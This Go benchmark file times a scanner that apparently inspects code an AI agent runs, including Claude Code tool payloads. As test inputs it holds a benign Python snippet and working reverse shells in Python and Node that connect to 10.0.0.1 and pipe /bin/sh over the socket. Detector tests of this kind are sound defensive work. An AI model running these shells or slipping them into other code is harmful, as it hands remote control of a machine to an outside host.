package effects

import "testing"

// typicalPy is a typical ten-line snippet an agent runs with python3 -c or
// a here-document: files, a subprocess and an HTTP call.
const typicalPy = `import json, os, subprocess
from pathlib import Path
cfg = Path("config.json")
data = json.loads(cfg.read_text())
out = os.path.join("build", data["name"] + ".txt")
os.makedirs("build", exist_ok=True)
with open(out, "w") as f:
    f.write(json.dumps(data, indent=2))
subprocess.run(["git", "status", "--short"], check=True)
print("wrote", out)`

func benchCode(b *testing.B, lang, code string) {
	prev := shellReader
	shellReader = func(s *state, script string) {}
	defer func() { shellReader = prev }()
	b.ReportAllocs()
	for b.Loop() {
		Code(lang, code, testCtx)
	}
}

// BenchmarkPython10Lines: the typical ten-line Python snippet.
func BenchmarkPython10Lines(b *testing.B) { benchCode(b, "python", typicalPy) }

// BenchmarkPythonReverseShell: the ten-line reverse shell of the table.
func BenchmarkPythonReverseShell(b *testing.B) { benchCode(b, "python", revPy) }

// BenchmarkPythonHelpers: a reverse shell whose steps sit in three helper
// functions the reader follows at their calls (py_funcs.go).
func BenchmarkPythonHelpers(b *testing.B) {
	benchCode(b, "python", `import socket, os, subprocess
def connect(h, p):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((h, p))
    return s
def wire(s):
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
def shell():
    subprocess.call(["/bin/sh", "-i"])
s = connect("10.0.0.1", 4444)
wire(s)
shell()`)
}

// BenchmarkNodeReverseShell: a Node reverse shell through the scanner.
func BenchmarkNodeReverseShell(b *testing.B) {
	benchCode(b, "node", `var net = require("net"), cp = require("child_process"), sh = cp.spawn("/bin/sh", []);
var client = new net.Socket();
client.connect(4242, "10.0.0.1", function(){ client.pipe(sh.stdin); sh.stdout.pipe(client); sh.stderr.pipe(client); });`)
}

// BenchmarkToolWrite: a Claude Code Write call.
func BenchmarkToolWrite(b *testing.B) {
	p := map[string]any{"tool_name": "Write", "tool_input": map[string]any{"file_path": "src/a.go", "content": "package a\n"}, "cwd": "/proj"}
	b.ReportAllocs()
	for b.Loop() {
		Payload(p, Context{})
	}
}
